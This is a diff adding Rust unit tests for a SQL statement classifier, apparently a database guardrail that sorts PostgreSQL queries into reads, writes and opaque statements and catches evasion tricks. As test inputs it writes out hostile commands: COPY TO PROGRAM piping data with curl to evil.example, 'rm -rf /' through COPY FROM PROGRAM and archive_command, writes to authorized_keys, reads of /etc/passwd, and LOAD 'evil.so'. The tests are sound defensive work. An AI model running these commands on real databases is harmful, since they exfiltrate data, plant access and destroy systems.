@@ -1,0 +1,824 @@
+use std::sync::Arc;
+
+use airlock_core::{Access, SqlKind, SqlOperation};
+
+use super::{Classified, Classifier, MAX_CACHED_LEN};
+
+fn all(sql: &str) -> Arc<[Classified]> {
+    Classifier::new(16).classify(sql)
+}
+
+fn one(sql: &str) -> Classified {
+    let all = all(sql);
+    assert_eq!(all.len(), 1, "{sql:?} gave {all:#?}");
+    all[0].clone()
+}
+
+fn op(sql: &str) -> SqlOperation {
+    one(sql).operation
+}
+
+fn kind(sql: &str) -> SqlKind {
+    op(sql).kind
+}
+
+fn kinds(sql: &str) -> Vec<SqlKind> {
+    all(sql).iter().map(|c| c.operation.kind).collect()
+}
+
+/// The tables as `"r:name"` / `"w:name"`, in the classifier's order.
+fn tables(sql: &str) -> Vec<String> {
+    tables_of(&op(sql))
+}
+
+fn tables_of(op: &SqlOperation) -> Vec<String> {
+    op.tables
+        .iter()
+        .map(|t| {
+            let a = match t.access {
+                Access::Read => "r",
+                Access::Write => "w",
+            };
+            format!("{a}:{}", t.name)
+        })
+        .collect()
+}
+
+fn ddl(sql: &str) -> (SqlKind, Option<String>) {
+    let op = op(sql);
+    (op.kind, op.object)
+}
+
+// ---- reads and tables ----
+
+#[test]
+fn select_reads_tables_in_joins_subqueries_and_ctes() {
+    let sql = "WITH recent AS (SELECT * FROM public.orders WHERE ts > now()) \
+               SELECT u.name FROM Users u JOIN recent r ON r.uid = u.id \
+               LEFT JOIN (SELECT * FROM s.Items) i ON true \
+               WHERE u.id IN (SELECT uid FROM banned) AND EXISTS (SELECT 1 FROM \"Audit\")";
+    let op = op(sql);
+    assert_eq!(op.kind, SqlKind::Select);
+    assert_eq!(op.has_where, None);
+    assert_eq!(
+        tables_of(&op),
+        [
+            "r:public.orders",
+            "r:users",
+            "r:s.items",
+            "r:banned",
+            "r:audit"
+        ]
+    );
+    assert_eq!(op.text, sql);
+}
+
+#[test]
+fn cte_names_are_not_tables_but_the_same_name_outside_their_scope_is() {
+    assert_eq!(
+        tables("WITH x AS (SELECT 1) SELECT * FROM x"),
+        Vec::<String>::new()
+    );
+    // A subquery's CTE named like a real table does not hide the outer read of it.
+    assert_eq!(
+        tables("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s"),
+        ["r:secrets"]
+    );
+    // A non-recursive CTE cannot see CTEs declared after it: `b` inside `a` is the table.
+    assert_eq!(
+        tables("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b"),
+        ["r:b"]
+    );
+    assert_eq!(
+        tables("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r"),
+        Vec::<String>::new()
+    );
+    // A qualified name is never a CTE.
+    assert_eq!(tables("WITH t AS (SELECT 1) SELECT * FROM s.t"), ["r:s.t"]);
+}
+
+#[test]
+fn table_commands_in_set_operations_are_reads() {
+    assert_eq!(
+        tables("SELECT * FROM a UNION TABLE secrets"),
+        ["r:a", "r:secrets"]
+    );
+    assert_eq!(tables("SELECT * FROM (TABLE s.secrets) q"), ["r:s.secrets"]);
+    assert_eq!(
+        tables("SELECT * FROM a UNION SELECT * FROM b"),
+        ["r:a", "r:b"]
+    );
+}
+
+#[test]
+fn table_functions_are_not_tables() {
+    assert_eq!(
+        tables("SELECT * FROM generate_series(1, 3) g JOIN t ON true"),
+        ["r:t"]
+    );
+}
+
+#[test]
+fn values_and_table_free_selects() {
+    assert_eq!(kind("SELECT 1"), SqlKind::Select);
+    assert_eq!(kind("VALUES (1), (2)"), SqlKind::Select);
+    assert_eq!(tables("SELECT now()"), Vec::<String>::new());
+}
+
+// ---- data modification ----
+
+#[test]
+fn insert_writes_target_and_reads_select_sources() {
+    let op = op("INSERT INTO s.t (a) SELECT a FROM u JOIN v USING (id) RETURNING *");
+    assert_eq!(op.kind, SqlKind::Insert);
+    assert_eq!(op.has_where, None);
+    assert_eq!(tables_of(&op), ["w:s.t", "r:u", "r:v"]);
+    assert_eq!(tables("INSERT INTO t VALUES (1)"), ["w:t"]);
+    // Reading and writing the same table shows both.
+    assert_eq!(tables("INSERT INTO t SELECT * FROM t"), ["w:t", "r:t"]);
+}
+
+#[test]
+fn update_and_delete_report_whether_they_have_where() {
+    let with = op("UPDATE t SET a = 1 WHERE id = 2");
+    assert_eq!((with.kind, with.has_where), (SqlKind::Update, Some(true)));
+    let without = op("UPDATE t SET a = 1");
+    assert_eq!(
+        (without.kind, without.has_where),
+        (SqlKind::Update, Some(false))
+    );
+    let with = op("DELETE FROM t WHERE id = 2");
+    assert_eq!((with.kind, with.has_where), (SqlKind::Delete, Some(true)));
+    let without = op("DELETE FROM t");
+    assert_eq!(
+        (without.kind, without.has_where),
+        (SqlKind::Delete, Some(false))
+    );
+}
+
+#[test]
+fn only_is_not_taken_for_a_table_name() {
+    // sqlparser reads `ONLY t` as table `only` aliased `t`; the table is `t`.
+    let op = op("UPDATE ONLY secrets SET a = 1");
+    assert_eq!(
+        (op.kind, tables_of(&op)),
+        (SqlKind::Update, vec!["w:secrets".to_owned()])
+    );
+    let op = self::op("DELETE FROM ONLY secrets WHERE id = 1");
+    assert_eq!(
+        (op.kind, tables_of(&op)),
+        (SqlKind::Delete, vec!["w:secrets".to_owned()])
+    );
+    assert_eq!(tables("SELECT * FROM ONLY secrets"), ["r:secrets"]);
+    assert_eq!(tables("SELECT * FROM secrets"), ["r:secrets"]);
+}
+
+#[test]
+fn a_reserved_word_read_as_a_table_name_makes_the_statement_opaque() {
+    // PostgreSQL never accepts these as table names, so sqlparser misread the statement.
+    assert_eq!(kind("SELECT * FROM user"), SqlKind::Opaque);
+    assert_eq!(kind("SELECT * FROM \"user\""), SqlKind::Select);
+    assert_eq!(kind("SELECT * FROM s.user"), SqlKind::Select);
+}
+
+#[test]
+fn update_from_and_delete_using_read_the_other_tables() {
+    assert_eq!(
+        tables("UPDATE t SET a = u.a FROM u WHERE t.id = u.id AND u.x IN (SELECT x FROM w)"),
+        ["w:t", "r:u", "r:w"]
+    );
+    assert_eq!(
+        tables("DELETE FROM t USING u WHERE t.id = u.id"),
+        ["w:t", "r:u"]
+    );
+}
+
+#[test]
+fn merge_writes_target_and_reads_source() {
+    let op = op(
+        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE \
+         WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
+    );
+    assert_eq!(op.kind, SqlKind::Merge);
+    assert_eq!(tables_of(&op), ["w:t", "r:s"]);
+}
+
+#[test]
+fn data_modifying_ctes_make_the_statement_a_write() {
+    let op = op("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x");
+    assert_eq!(op.kind, SqlKind::Delete);
+    assert_eq!(op.has_where, Some(false));
+    assert_eq!(tables_of(&op), ["w:t"]);
+
+    let op = self::op("WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x");
+    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));
+
+    let op = self::op("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x");
+    assert_eq!((op.kind, op.has_where), (SqlKind::Update, Some(false)));
+
+    let op = self::op("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x, u");
+    assert_eq!(op.kind, SqlKind::Insert);
+    assert_eq!(tables_of(&op), ["w:t", "r:u"]);
+
+    // The strongest write wins: a DELETE feeding an INSERT is a DELETE.
+    let op = self::op(
+        "WITH gone AS (DELETE FROM a WHERE ts < now() RETURNING *) INSERT INTO archive SELECT * FROM gone",
+    );
+    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));
+    assert_eq!(tables_of(&op), ["w:a", "w:archive"]);
+
+    // A WITH in front of a DELETE.
+    let op = self::op("WITH x AS (SELECT id FROM u) DELETE FROM t WHERE id IN (SELECT id FROM x)");
+    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(true)));
+    assert_eq!(tables_of(&op), ["w:t", "r:u"]);
+
+    // The benign neighbour: a read-only CTE stays a SELECT.
+    assert_eq!(
+        kind("WITH x AS (SELECT * FROM t) SELECT * FROM x"),
+        SqlKind::Select
+    );
+}
+
+#[test]
+fn copy_of_a_data_modifying_query_is_the_write() {
+    let op = op("COPY (DELETE FROM t RETURNING *) TO STDOUT");
+    assert_eq!((op.kind, op.has_where), (SqlKind::Delete, Some(false)));
+}
+
+// ---- things that look like reads ----
+
+#[test]
+fn explain_analyze_of_a_write_is_the_write() {
+    for sql in [
+        "EXPLAIN ANALYZE DELETE FROM t",
+        "explain analyze delete from t",
+        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
+        "EXPLAIN (ANALYZE true) DELETE FROM t",
+        "EXPLAIN (ANALYSE) DELETE FROM t",
+        "EXPLAIN (COSTS off, ANALYZE 1) DELETE FROM t",
+    ] {
+        let op = op(sql);
+        assert_eq!(op.kind, SqlKind::Delete, "{sql}");
+        assert_eq!(op.has_where, Some(false), "{sql}");
+        assert_eq!(tables_of(&op), ["w:t"], "{sql}");
+        assert_eq!(op.text, sql);
+    }
+    // EXPLAIN ANALYZE EXECUTE keeps the name for the connector to substitute.
+    let c = one("EXPLAIN ANALYZE EXECUTE p(1)");
+    assert_eq!(c.operation.kind, SqlKind::Execute);
+    assert_eq!(c.execute.as_deref(), Some("p"));
+}
+
+#[test]
+fn plain_explain_and_explain_analyze_of_a_read_are_explain() {
+    for sql in [
+        "EXPLAIN DELETE FROM t",
+        "EXPLAIN (ANALYZE false) DELETE FROM t",
+        "EXPLAIN (ANALYZE off, COSTS) DELETE FROM t",
+        "EXPLAIN ANALYZE SELECT * FROM t",
+        "EXPLAIN SELECT * FROM t",
+    ] {
+        let op = op(sql);
+        assert_eq!(op.kind, SqlKind::Explain, "{sql}");
+        assert_eq!(tables_of(&op), ["r:t"], "{sql}");
+        assert_eq!(op.has_where, None, "{sql}");
+    }
+}
+
+#[test]
+fn select_into_creates_a_table() {
+    let op = op("SELECT * INTO TEMP newtable FROM t WHERE a > 1");
+    assert_eq!(op.kind, SqlKind::Create);
+    assert_eq!(op.object.as_deref(), Some("table"));
+    assert_eq!(tables_of(&op), ["w:newtable", "r:t"]);
+    assert_eq!(kind("SELECT * FROM t WHERE a > 1"), SqlKind::Select);
+}
+
+#[test]
+fn side_effecting_functions_turn_a_read_into_call_or_opaque() {
+    for sql in [
+        "SELECT pg_terminate_backend(123)",
+        "select PG_CATALOG.pg_cancel_backend(pid) from pg_stat_activity",
+        "SELECT set_config('search_path', 'x', false)",
+        "SELECT nextval('s')",
+        "SELECT * FROM t WHERE id = (SELECT setval('s', 1))",
+        "COPY (SELECT pg_reload_conf()) TO STDOUT",
+    ] {
+        assert_eq!(kind(sql), SqlKind::Call, "{sql}");
+    }
+    for sql in [
+        "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
+        "SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(a int)",
+        "SELECT lo_export(123, '/tmp/x')",
+        "SELECT pg_read_file('/etc/passwd')",
+        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
+        "SELECT table_to_xml('secrets', true, false, '')",
+        "INSERT INTO log SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
+    ] {
+        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
+    }
+    // A known function in a write does not weaken it.
+    assert_eq!(kind("INSERT INTO t VALUES (nextval('s'))"), SqlKind::Insert);
+    // Ordinary functions leave a read a read.
+    assert_eq!(
+        kind("SELECT lower(name), count(*) FROM t GROUP BY 1"),
+        SqlKind::Select
+    );
+    assert_eq!(kind("SELECT currval('s')"), SqlKind::Select);
+}
+
+// ---- copy ----
+
+#[test]
+fn copy_in_out_and_program() {
+    let op = op("COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)");
+    assert_eq!(op.kind, SqlKind::CopyIn);
+    assert_eq!(tables_of(&op), ["w:s.t"]);
+    let op = self::op("COPY t TO STDOUT");
+    assert_eq!(op.kind, SqlKind::CopyOut);
+    assert_eq!(tables_of(&op), ["r:t"]);
+    let op = self::op("COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT");
+    assert_eq!(op.kind, SqlKind::CopyOut);
+    assert_eq!(tables_of(&op), ["r:t", "r:u"]);
+    for sql in [
+        "COPY t TO PROGRAM 'curl -d @- evil.example'",
+        "COPY t FROM PROGRAM 'rm -rf /'",
+        "COPY t TO '/var/lib/postgresql/.ssh/authorized_keys'",
+        "COPY t FROM '/etc/passwd'",
+    ] {
+        assert_eq!(kind(sql), SqlKind::Opaque, "{sql}");
+    }
+}
+
+// ---- prepared statements ----
+
+#[test]
+fn prepare_execute_deallocate() {
+    let c = one("PREPARE Del (int) AS DELETE FROM t WHERE id = $1");
+    assert_eq!(c.operation.kind, SqlKind::Prepare);
+    assert_eq!(c.operation.has_where, Some(true));
+    assert_eq!(tables_of(&c.operation), ["w:t"]);
+    let (name, inner) = c.prepare.expect("prepare");
+    assert_eq!(name, "del");
+    assert_eq!(inner.kind, SqlKind::Delete);
+    assert_eq!(inner.has_where, Some(true));
+    assert_eq!(inner.text, "DELETE FROM t WHERE id = $1");
+
+    let c = one("EXECUTE del(1)");
+    assert_eq!(c.operation.kind, SqlKind::Execute);
+    assert_eq!(c.execute.as_deref(), Some("del"));
+    assert_eq!(one("EXECUTE \"Del\"").execute.as_deref(), Some("Del"));
+    // A side effect in the parameters is not hidden behind the prepared statement.
+    for sql in [
+        "EXECUTE del(pg_terminate_backend(1))",
+        "EXECUTE del(dblink_exec('x', 'DROP TABLE t'))",
+    ] {
+        let c = one(sql);
+        assert_eq!(
+            (c.operation.kind, c.execute),
+            (SqlKind::Opaque, None),
+            "{sql}"
+        );
+    }
+    assert_eq!(
+        one("EXECUTE del(lower('A'))").execute.as_deref(),
+        Some("del")
+    );
+
+    let c = one("DEALLOCATE del");
+    assert_eq!(c.operation.kind, SqlKind::Deallocate);
+    assert_eq!(c.deallocate, Some(Some("del".to_owned())));
+    assert_eq!(
+        one("DEALLOCATE PREPARE del").deallocate,
+        Some(Some("del".to_owned()))
+    );
+    assert_eq!(one("DEALLOCATE ALL").deallocate, Some(None));
+    assert_eq!(
+        one("DEALLOCATE \"ALL\"").deallocate,
+        Some(Some("ALL".to_owned()))
+    );
+    assert_eq!(one("DISCARD ALL").deallocate, Some(None));
+    assert_eq!(one("SELECT 1").deallocate, None);
+}
+
+#[test]
+fn prepare_of_a_read_keeps_the_inner_read() {
+    let c = one("PREPARE q AS SELECT * FROM t");
+    assert_eq!(c.operation.kind, SqlKind::Prepare);
+    let (_, inner) = c.prepare.expect("prepare");
+    assert_eq!(inner.kind, SqlKind::Select);
+    assert_eq!(tables_of(&inner), ["r:t"]);
+}
+
+// ---- every other kind ----
+
+#[test]
+fn ddl_kinds_and_objects() {
+    use SqlKind::{Alter, Create, Drop};
+    let cases = [
+        ("CREATE TABLE s.t (a int)", Create, "table"),
+        ("CREATE TABLE t2 AS SELECT * FROM t", Create, "table"),
+        ("CREATE INDEX i ON t (a)", Create, "index"),
+        ("CREATE SCHEMA s", Create, "schema"),
+        ("CREATE DATABASE d", Create, "database"),
+        ("CREATE VIEW v AS SELECT * FROM t", Create, "view"),
+        (
+            "CREATE MATERIALIZED VIEW mv AS SELECT 1",
+            Create,
+            "materialized view",
+        ),
+        (
+            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
+            Create,
+            "function",
+        ),
+        ("CREATE ROLE bob LOGIN", Create, "role"),
+        ("CREATE USER bob", Create, "role"),
+        ("CREATE SEQUENCE seq", Create, "sequence"),
+        ("CREATE EXTENSION dblink", Create, "extension"),
+        ("CREATE TYPE mood AS ENUM ('sad', 'ok')", Create, "type"),
+        (
+            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
+            Create,
+            "trigger",
+        ),
+        (
+            "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
+            Create,
+            "rule",
+        ),
+        (
+            "CREATE OR REPLACE RULE r AS ON DELETE TO s.t DO ALSO NOTIFY c",
+            Create,
+            "rule",
+        ),
+        ("ALTER TABLE t ADD COLUMN c int", Alter, "table"),
+        ("ALTER INDEX i RENAME TO j", Alter, "index"),
+        ("ALTER ROLE bob SUPERUSER", Alter, "role"),
+        ("ALTER SCHEMA s RENAME TO s2", Alter, "schema"),
+        ("COMMENT ON TABLE t IS 'x'", Alter, "table"),
+        ("DROP TABLE a, s.b", Drop, "table"),
+        ("DROP INDEX i", Drop, "index"),
+        ("DROP SCHEMA s CASCADE", Drop, "schema"),
+        ("DROP DATABASE d", Drop, "database"),
+        ("DROP VIEW v", Drop, "view"),
+        ("DROP FUNCTION f()", Drop, "function"),
+        ("DROP ROLE bob", Drop, "role"),
+    ];
+    for (sql, kind, object) in cases {
+        assert_eq!(ddl(sql), (kind, Some(object.to_owned())), "{sql}");
+    }
+    assert_eq!(tables("DROP TABLE a, s.b"), ["w:a", "w:s.b"]);
+    assert_eq!(
+        tables("CREATE TABLE t2 AS SELECT * FROM t"),
+        ["w:t2", "r:t"]
+    );
+    assert_eq!(tables("CREATE INDEX i ON s.t (a)"), ["w:s.t"]);
+    assert_eq!(tables("ALTER TABLE T ADD COLUMN c int"), ["w:t"]);
+    assert_eq!(
+        tables("CREATE RULE r AS ON INSERT TO s.t DO INSTEAD NOTHING"),
+        ["w:s.t"]
+    );
+    assert_eq!(
+        tables("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()"),
+        ["w:t"]
+    );
+}
+
+#[test]
+fn utility_kinds() {
+    use SqlKind::*;
+    let cases = [
+        ("TRUNCATE t1, s.t2", Truncate),
+        ("GRANT SELECT ON TABLE t TO bob", Grant),
+        ("GRANT admin TO bob", Grant),
+        ("REVOKE ALL ON SCHEMA s FROM bob", Revoke),
+        ("REVOKE admin FROM bob", Revoke),
+        ("CALL p(1)", Call),
+        ("SET search_path = a, b", Set),
+        ("SET LOCAL statement_timeout TO 0", Set),
+        ("SET ROLE admin", Set),
+        ("RESET ALL", Set),
+        ("DISCARD ALL", Set),
+        ("SHOW search_path", Show),
+        ("BEGIN", Transaction),
+        (
+            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
+            Transaction,
+        ),
+        (
+            "SET TRANSACTION ISOLATION LEVEL READ COMMITTED",
+            Transaction,
+        ),
+        ("COMMIT", Transaction),
+        ("END", Transaction),
+        ("ROLLBACK", Transaction),
+        ("ABORT", Transaction),
+        ("SAVEPOINT a", Transaction),
+        ("RELEASE SAVEPOINT a", Transaction),
+        ("ROLLBACK TO SAVEPOINT a", Transaction),
+        ("LISTEN chan", Listen),
+        ("UNLISTEN *", Listen),
+        ("NOTIFY chan, 'payload'", Notify),
+        ("VACUUM t", Vacuum),
+        ("VACUUM FULL t", Vacuum),
+        ("VACUUM (VERBOSE, ANALYZE) t1, s.t2 (a, b)", Vacuum),
+        ("VACUUM ANALYZE", Vacuum),
+        ("VACUUM FULL VERBOSE ANALYZE t", Vacuum),
+        ("ANALYZE VERBOSE t", Vacuum),
+        ("TABLE t", Select),
+        ("ANALYZE t", Vacuum),
+        ("ANALYZE (VERBOSE) t", Vacuum),
+        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Lock),
+        ("LOCK t", Lock),
+        ("DECLARE c CURSOR FOR SELECT * FROM t", Select),
+        ("FETCH 10 FROM c", Select),
+        ("CLOSE c", Other),
+    ];
+    for (sql, kind) in cases {
+        assert_eq!(self::kind(sql), kind, "{sql}");
+    }
+    assert_eq!(tables("TRUNCATE t1, s.t2"), ["w:t1", "w:s.t2"]);
+    assert_eq!(tables("GRANT SELECT ON TABLE t TO bob"), ["w:t"]);
+    assert_eq!(tables("LOCK TABLE t IN ACCESS EXCLUSIVE MODE"), ["w:t"]);
+    assert_eq!(
+        tables("VACUUM (VERBOSE, ANALYZE) t1, s.t2 (a, b)"),
+        ["w:t1", "w:s.t2"]
+    );
+    assert_eq!(tables("VACUUM t"), ["w:t"]);
+    assert_eq!(tables("VACUUM ANALYZE"), Vec::<String>::new());
+    assert_eq!(tables("VACUUM FULL VERBOSE ANALYZE t"), ["w:t"]);
+    assert_eq!(tables("ANALYZE VERBOSE s.t"), ["r:s.t"]);
+    assert_eq!(tables("TABLE ONLY s.t"), ["r:s.t"]);
+    // Anything past the names is not VACUUM grammar: opaque.
+    assert_eq!(kind("VACUUM t WHERE 1 = 1"), SqlKind::Opaque);
+    assert_eq!(
+        kinds("TABLE t; SELECT 1"),
+        [SqlKind::Select, SqlKind::Select]
+    );
+    assert_eq!(tables("ANALYZE t"), ["r:t"]);
+    assert_eq!(tables("DECLARE c CURSOR FOR SELECT * FROM t"), ["r:t"]);
+}
+
+// ---- multi-statement strings ----
+
+#[test]
+fn multi_statement_strings_are_judged_per_statement() {
+    let ops = all("SELECT 1; DROP TABLE t;\n  UPDATE u SET a = 1 ;");
+    let kinds: Vec<_> = ops.iter().map(|c| c.operation.kind).collect();
+    assert_eq!(kinds, [SqlKind::Select, SqlKind::Drop, SqlKind::Update]);
+    let texts: Vec<_> = ops.iter().map(|c| c.operation.text.as_str()).collect();
+    assert_eq!(texts, ["SELECT 1", "DROP TABLE t", "UPDATE u SET a = 1"]);
+    assert_eq!(kinds_of_single("SELECT 1"), [SqlKind::Select]);
+}
+
+fn kinds_of_single(sql: &str) -> Vec<SqlKind> {
+    kinds(sql)
+}
+
+#[test]
+fn semicolons_in_literals_comments_and_dollar_quotes_do_not_split() {
+    for sql in [
+        "SELECT 'a; DROP TABLE t'",
+        "SELECT E'a\\'; DROP TABLE t; --'",
+        "SELECT $$; DROP TABLE t;$$",
+        "SELECT $tag$ $$; DROP TABLE t; $$ $tag$",
+        "SELECT \"; DROP TABLE t\" FROM x",
+        "SELECT 1 /* ; DROP TABLE t; */",
+        "SELECT 1 -- ; DROP TABLE t;",
+        "SELECT 'it''s; fine'",
+    ] {
+        assert_eq!(kinds(sql), [SqlKind::Select], "{sql}");
+    }
+}
+
+#[test]
+fn an_unparseable_statement_does_not_make_its_neighbours_opaque() {
+    assert_eq!(
+        kinds("SELECT 1; DO $$ BEGIN DELETE FROM t; END $$; DELETE FROM u WHERE id = 1"),
+        [SqlKind::Select, SqlKind::Opaque, SqlKind::Delete]
+    );
+    let ops = all("SELECT 1; DO $$ BEGIN DELETE FROM t; END $$");
+    assert_eq!(ops[1].operation.text, "DO $$ BEGIN DELETE FROM t; END $$");
+}
+
+#[test]
+fn strings_that_cannot_be_split_reliably_are_one_opaque_entry() {
+    for sql in [
+        "SELECT 1; SELECT 'unterminated",
+        "SELECT 1; /* unterminated",
+        "SELECT 1; SELECT $x$ unterminated",
+        // With standard_conforming_strings off, the DROP is a statement.
+        "SELECT '\\', ' ; DROP TABLE t; --'",
+    ] {
+        let ops = all(sql);
+        assert_eq!(ops.len(), 1, "{sql}");
+        assert_eq!(ops[0].operation.kind, SqlKind::Opaque, "{sql}");
+        assert_eq!(ops[0].operation.text, sql);
+    }
+    // Without the ambiguity, the same shapes split and classify normally.
+    assert_eq!(
+        kinds("SELECT 1; SELECT 'terminated'"),
+        [SqlKind::Select, SqlKind::Select]
+    );
+    assert_eq!(kinds("SELECT '\\d', ' ; x'"), [SqlKind::Select]);
+}
+
+#[test]
+fn empty_strings_have_no_statements() {
+    for sql in ["", "   ", ";", " ; ;", "-- just a comment", "/* c */ ;"] {
+        assert!(all(sql).is_empty(), "{sql:?}");
+    }
+}
+
+// ---- guardrail evasion ----
+
+#[test]
+fn comments_around_keywords_do_not_hide_a_drop() {
+    for sql in [
+        "DROP/**/TABLE t",
+        "/* x */ DROP TABLE t",
+        "-- c\nDROP TABLE t",
+        "DROP /* a /* nested */ comment */ TABLE t",
+    ] {
+        let op = op(sql);
+        assert_eq!(
+            (op.kind, tables_of(&op)),
+            (SqlKind::Drop, vec!["w:t".to_owned()]),
+            "{sql}"
+        );
+    }
+    // A comment inside a keyword is not valid SQL: opaque, never a read.
+    assert_eq!(kind("DR/**/OP TABLE t"), SqlKind::Opaque);
+    // The benign neighbour with the same comment tricks stays a read.
+    assert_eq!(kind("/* x */ SELECT/**/* FROM t"), SqlKind::Select);
+    assert_eq!(kind("-- c\nSELECT 1"), SqlKind::Select);
+}
+
+#[test]
+fn mixed_case_is_the_same_statement() {
+    let op = op("dRoP tAbLe Public.Users");
+    assert_eq!(op.kind, SqlKind::Drop);
+    assert_eq!(tables_of(&op), ["w:public.users"]);
+    assert_eq!(kind("sElEcT * FrOm Users"), SqlKind::Select);
+    assert_eq!(tables("sElEcT * FrOm \"Users\""), ["r:users"]);
+}
+
+#[test]
+fn a_write_appended_to_a_read_is_seen() {
+    assert_eq!(
+        kinds("SELECT 1; DROP TABLE t"),
+        [SqlKind::Select, SqlKind::Drop]
+    );
+    assert_eq!(
+        kinds("SELECT 1;DROP TABLE t--"),
+        [SqlKind::Select, SqlKind::Drop]
+    );
+    assert_eq!(
+        kinds("SELECT 1; SELECT 2"),
+        [SqlKind::Select, SqlKind::Select]
+    );
+}
+
+#[test]
+fn a_cte_wrapped_write_is_seen() {
+    assert_eq!(
+        kind("WITH d AS (DELETE FROM users RETURNING id) SELECT count(*) FROM d"),
+        SqlKind::Delete
+    );
+    assert_eq!(
+        kind("WITH d AS (SELECT id FROM users) SELECT count(*) FROM d"),
+        SqlKind::Select
+    );
+}
+
+#[test]
+fn a_prepared_write_is_seen_through_prepare_and_execute() {
+    let ops = all("PREPARE p AS DELETE FROM t; EXECUTE p");
+    assert_eq!(ops.len(), 2);
+    assert_eq!(
+        ops[0].prepare.as_ref().map(|(n, o)| (n.as_str(), o.kind)),
+        Some(("p", SqlKind::Delete))
+    );
+    assert_eq!(ops[0].operation.has_where, Some(false));
+    assert_eq!(ops[1].execute.as_deref(), Some("p"));
+    let ops = all("PREPARE p AS SELECT 1; EXECUTE p");
+    assert_eq!(
+        ops[0].prepare.as_ref().map(|(_, o)| o.kind),
+        Some(SqlKind::Select)
+    );
+}
+
+#[test]
+fn do_blocks_and_garbage_are_opaque() {
+    for sql in [
+        "DO $$ BEGIN DELETE FROM t; END $$",
+        "do language plpgsql $x$ begin perform 1; end $x$",
+        "ALTER SYSTEM SET archive_command = 'rm -rf /'",
+        "LOAD 'evil.so'",
+        "hello world",
+        "SELECT FROM WHERE (",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1",
+    ] {
+        let ops = all(sql);
+        assert_eq!(ops[0].operation.kind, SqlKind::Opaque, "{sql}");
+        assert!(
+            ops[0].operation.kind.is_write(),
+            "opaque must never be a read"
+        );
+    }
+}
+
+#[test]
+fn a_rule_action_list_cut_at_its_semicolon_is_opaque() {
+    // The server reads one CREATE RULE; the splitter cuts it inside the parentheses,
+    // so the pieces must not pass as a harmless rule plus a harmless statement.
+    let ops = all("CREATE RULE r AS ON INSERT TO t DO INSTEAD (SELECT 1; SELECT 2)");
+    assert!(
+        ops.iter().all(|c| c.operation.kind == SqlKind::Opaque),
+        "{ops:#?}"
+    );
+}
+
+// ---- cache ----
+
+#[test]
+fn the_cache_returns_the_same_arc_for_repeated_text() {
+    let classifier = Classifier::new(2);
+    let a = classifier.classify("SELECT * FROM t");
+    let b = classifier.classify("SELECT * FROM t");
+    assert!(Arc::ptr_eq(&a, &b));
+    // A different string is classified on its own.
+    let c = classifier.classify("select * from t");
+    assert!(!Arc::ptr_eq(&a, &c));
+    assert_eq!(a[0].operation.tables, c[0].operation.tables);
+}
+
+#[test]
+fn the_cache_is_bounded_and_evicts_the_least_recently_used() {
+    let classifier = Classifier::new(2);
+    let a = classifier.classify("SELECT 1");
+    let _b = classifier.classify("SELECT 2");
+    assert!(Arc::ptr_eq(&a, &classifier.classify("SELECT 1")));
+    let _c = classifier.classify("SELECT 3"); // evicts "SELECT 2"
+    assert!(Arc::ptr_eq(&a, &classifier.classify("SELECT 1")));
+    assert!(format!("{classifier:?}").contains("cached: 2"));
+}
+
+#[test]
+fn long_strings_and_a_zero_capacity_are_not_cached_but_still_classified() {
+    let classifier = Classifier::new(4);
+    let long = format!("SELECT '{}'", "x".repeat(MAX_CACHED_LEN));
+    let a = classifier.classify(&long);
+    let b = classifier.classify(&long);
+    assert!(!Arc::ptr_eq(&a, &b));
+    assert_eq!(a, b);
+    let none = Classifier::new(0);
+    let a = none.classify("DELETE FROM t");
+    assert_eq!(a[0].operation.kind, SqlKind::Delete);
+    assert!(!Arc::ptr_eq(&a, &none.classify("DELETE FROM t")));
+}
+
+#[test]
+fn the_classifier_is_shared_across_threads() {
+    fn assert_send_sync<T: Send + Sync>() {}
+    assert_send_sync::<Classifier>();
+    let classifier = Arc::new(Classifier::new(64));
+    let handles: Vec<_> = (0..4)
+        .map(|i| {
+            let classifier = Arc::clone(&classifier);
+            std::thread::spawn(move || {
+                for j in 0..50 {
+                    let ops =
+                        classifier.classify(&format!("DELETE FROM t{} WHERE id = {j}", i % 2));
+                    assert_eq!(ops[0].operation.kind, SqlKind::Delete);
+                }
+            })
+        })
+        .collect();
+    for h in handles {
+        h.join().unwrap();
+    }
+}
+
+#[test]
+fn deeply_nested_input_is_opaque_not_a_crash() {
+    let depth = 5_000;
+    let nested = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
+    assert_eq!(kinds(&nested), [SqlKind::Opaque]);
+    let subqueries = format!(
+        "SELECT * FROM {}t{}",
+        "(SELECT * FROM ".repeat(depth),
+        ") x".repeat(depth)
+    );
+    assert_eq!(kinds(&subqueries), [SqlKind::Opaque]);
+    let comments = format!("{}{} SELECT 1", "/*".repeat(depth), "*/".repeat(depth));
+    assert_eq!(kinds(&comments), [SqlKind::Select]);
+    // Moderate nesting is still understood.
